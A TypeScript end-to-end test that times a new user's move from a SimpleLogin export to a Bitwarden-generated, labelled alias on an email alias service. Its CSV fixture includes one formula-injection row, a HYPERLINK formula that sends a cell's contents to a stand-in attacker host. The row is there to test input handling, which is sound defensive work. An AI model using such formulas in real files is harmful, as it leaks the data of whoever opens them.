/**
 * The promise to a person who moves in: from a SimpleLogin export to an alias that the password manager has made and
 * that is found by its label, in under two minutes of clicks. Every click and every typed field is counted, and the
 * time that a person needs for them is added to the time that the pages took.
 */
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { apiKeyPattern } from "@kauke/contract";
import type { Locator, Page } from "playwright-core";
import { expect, test } from "vitest";
import { seeGone, seeHeading, seePath, seeToast, seeUndo } from "../browser/see.ts";
import { runSite } from "../browser/site.ts";
import { aliasRow, listedAddresses, password } from "../browser/steps.ts";
import { openServerMessage } from "../mail/server-messages.ts";
import { aFile } from "./exports.ts";

/** `KAUKE_LIMITS` has its default: a mailbox is asked for confirmation, and a key needs a confirmed one. */
const site = runSite({ env: () => ({ KAUKE_LIMITS: "" }) });
const PROMISED_SECONDS = 120;
/** Seconds that people usually need at a computer (keystroke-level model): to find and press something, and for a key. */
const PRESS_SECONDS = 1.1;
const KEY_SECONDS = 0.12;

const email = "ona.moves@people.example";

/** As SimpleLogin writes it: quoted commas, unicode, a formula, a row that is there twice, a reserved name. */
const simpleLoginFile = [
  "alias,note,enabled,mailboxes",
  `garden.ona@kauke.test,"Seeds, bulbs, and ""tools""",True,${email}`,
  `sodas.ona@simplelogin.com,Sodininkų žurnalas 🌱 – ąžuolas,True,${email}`,
  `sums.ona@aleeas.com,"=HYPERLINK(""https://evil.example/?""&A1,""Prize"")",False,${email}`,
  `garden.ona@kauke.test,"Seeds, bulbs, and ""tools""",True,${email}`,
  `admin@kauke.test,Reserved here,True,${email}`,
  "",
].join("\r\n");

/** Does what a person does, and counts it. */
class CountingHand {
  clicks = 0;
  fields = 0;
  keys = 0;
  readonly #begin = performance.now();

  async click(target: Locator): Promise<void> {
    this.clicks++;
    await target.click();
  }

  /** A field is pressed before it is typed into. */
  async type(field: Locator, text: string): Promise<void> {
    this.fields++;
    this.keys += text.length;
    await this.click(field);
    await field.fill(text);
  }

  async chooseFile(opener: Locator, file: ReturnType<typeof aFile>): Promise<void> {
    const chooser = opener.page().waitForEvent("filechooser");
    await this.click(opener);
    this.clicks++;
    await (await chooser).setFiles(file);
  }

  report() {
    const pageSeconds = (performance.now() - this.#begin) / 1000;
    const handSeconds = this.clicks * PRESS_SECONDS + this.keys * KEY_SECONDS;
    return { clicks: this.clicks, fields: this.fields, pageSeconds, handSeconds, seconds: pageSeconds + handSeconds };
  }
}

interface RecordedRequest {
  name: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body: string;
  status: number[];
}

/** Sends what Bitwarden's browser extension sends while a site's sign-up page is open. @returns the new address */
async function generateInBitwarden(key: string): Promise<string> {
  const file = join(import.meta.dirname, "../../test-vectors/clients/simplelogin/bitwarden-clients.json");
  const { requests } = JSON.parse(await readFile(file, "utf8")) as { requests: RecordedRequest[] };
  const recorded = requests.find(({ name }) => name === "the browser extension, while a site is open");
  if (recorded === undefined) throw new Error("the recorded request of Bitwarden's browser extension is missing");
  const headers = Object.entries(recorded.headers).map(([name, value]) => [name, value.replace("${key}", key)]);
  const { method, path, body } = recorded;
  const answer = await fetch(`${site.server.url}${path}`, { method, body, headers: Object.fromEntries(headers) });
  expect(recorded.status).toContain(answer.status);
  return ((await answer.json()) as { alias: string }).alias;
}

const banner = (page: Page, name: string) => page.getByRole("banner").getByRole("link", { name });
const button = (within: Page | Locator, name: string) => within.getByRole("button", { name, exact: true });

async function register(page: Page, hand: CountingHand): Promise<void> {
  await hand.click(page.getByRole("main").getByRole("link", { name: "Sign up with email" }));
  await hand.type(page.getByLabel("Email"), email);
  await hand.type(page.getByLabel(/^Password/), password);
  await hand.type(page.getByLabel("Confirm password"), password);
  await hand.click(button(page, "Create Account"));
  await seePath(page, "/dashboard");
}

/** Two clicks: the page and the group. */
async function openSettings(page: Page, hand: CountingHand, group: string): Promise<void> {
  await hand.click(banner(page, "_SETTINGS"));
  await hand.click(page.getByRole("navigation", { name: "Settings" }).getByRole("link", { name: group, exact: true }));
}

/** Opening the inbox, the message and its link are a click each. */
async function confirmMailbox(page: Page, inbox: Page, hand: CountingHand): Promise<void> {
  await openSettings(page, hand, "Mailboxes");
  await hand.click(button(page, `Send Confirmation: ${email}`));
  await seeToast(page, "Confirmation Sent");
  hand.clicks += 3;
  await inbox.goto(await openServerMessage(inbox, "Is this mailbox yours?", email));
  await hand.click(button(inbox, "This is mine"));
  await seeHeading(inbox, `${email} is confirmed`);
  await inbox.close();
}

async function importAliases(page: Page, hand: CountingHand): Promise<void> {
  await openSettings(page, hand, "Move and data");
  await hand.click(page.getByRole("main").getByRole("link", { name: "Move in", exact: true }));
  await hand.chooseFile(
    page.getByRole("group", { name: "File of your aliases" }).getByRole("button", { name: "Choose a file" }),
    aFile("aliases.csv", simpleLoginFile),
  );
  await seeHeading(page, "What would happen");
  const rows = page.getByRole("list", { name: "Rows of the import" }).getByRole("listitem");
  await rows.filter({ hasText: "admin@kauke.test" }).getByText("Reserved name").waitFor();
  await rows.filter({ hasText: "garden.ona@kauke.test" }).getByText("Already here").waitFor();
  await hand.click(button(page, "Import 3 aliases"));
  await seeHeading(page, "Import finished");
}

/** @returns the key, as the person pastes it into the password manager */
async function makeKey(page: Page, hand: CountingHand): Promise<string> {
  await openSettings(page, hand, "Programs");
  await hand.click(button(page, "Create API Key").first());
  const dialog = page.getByRole("dialog", { name: "Create API key" });
  await hand.type(dialog.getByLabel("Name"), "Bitwarden");
  await hand.click(button(dialog, "Create API Key"));
  const shown = page.getByRole("dialog", { name: "Your new API key" });
  await hand.click(button(shown, "Copy Key"));
  await seeToast(page, "Copied to clipboard");
  await hand.click(button(shown, "Done"));
  return page.evaluate<string>("navigator.clipboard.readText()");
}

/** Waits for the whole notes of a row, which it may show shortened. */
const seeNotes = (page: Page, address: string, notes: string): Promise<void> =>
  aliasRow(page, address).getByText(notes, { exact: true }).waitFor();

async function labelAndFilter(page: Page, hand: CountingHand, address: string): Promise<void> {
  await hand.click(page.getByRole("checkbox", { name: `Select ${address}` }));
  await hand.click(button(page.getByRole("group", { name: "Selected aliases" }), "Label"));
  const dialog = page.getByRole("dialog", { name: "Label 1 alias" });
  await hand.type(dialog.getByLabel("New label"), "Parduotuvės");
  await hand.click(button(dialog, "Create Label"));
  await dialog.getByRole("radio", { name: "Parduotuvės" }).waitFor();
  await hand.click(button(dialog, "Add Label"));
  await seeUndo(page, "Label Added");
  await seeGone(dialog);
  await hand.click(page.getByRole("group", { name: "Show aliases" }).getByRole("button", { name: /^Parduotuvės/ }));
  await expect.poll(() => listedAddresses(page)).toEqual([address]);
}

test("a new user moves in from SimpleLogin, connects Bitwarden and finds its alias by label, in under two minutes of clicks", async () => {
  const { page, context } = await site.visit();
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.goto("/home");
  const hand = new CountingHand();
  await register(page, hand);
  await confirmMailbox(page, await context.newPage(), hand);
  await importAliases(page, hand);
  const key = await makeKey(page, hand);
  expect(key).toMatch(apiKeyPattern);
  const address = await generateInBitwarden(key);

  await hand.click(banner(page, "_FORWARD"));
  await seeNotes(page, "garden.ona@kauke.test", 'Seeds, bulbs, and "tools"');
  await seeNotes(page, "sodas.ona@kauke.test", "Sodininkų žurnalas 🌱 – ąžuolas was sodas.ona@simplelogin.com");
  expect(await aliasRow(page, "sums.ona@kauke.test").getByRole("switch").getAttribute("aria-checked")).toBe("false");
  const row = aliasRow(page, address);
  await seeNotes(page, address, "Website: shop.example. Generated by Bitwarden.");
  await row.getByText(email, { exact: true }).waitFor();
  await labelAndFilter(page, hand, address);
  await row.getByRole("list", { name: "Labels" }).getByText("Parduotuvės").waitFor();

  const { clicks, fields, pageSeconds, handSeconds, seconds } = hand.report();
  console.log(
    `Moving in: ${clicks} clicks and ${fields} typed fields; ${pageSeconds.toFixed(1)} s of pages and ` +
      `${handSeconds.toFixed(1)} s of hands, ${seconds.toFixed(1)} s together`,
  );
  expect(seconds).toBeLessThan(PROMISED_SECONDS);
  expect(site.server.output()).not.toContain(key);
});
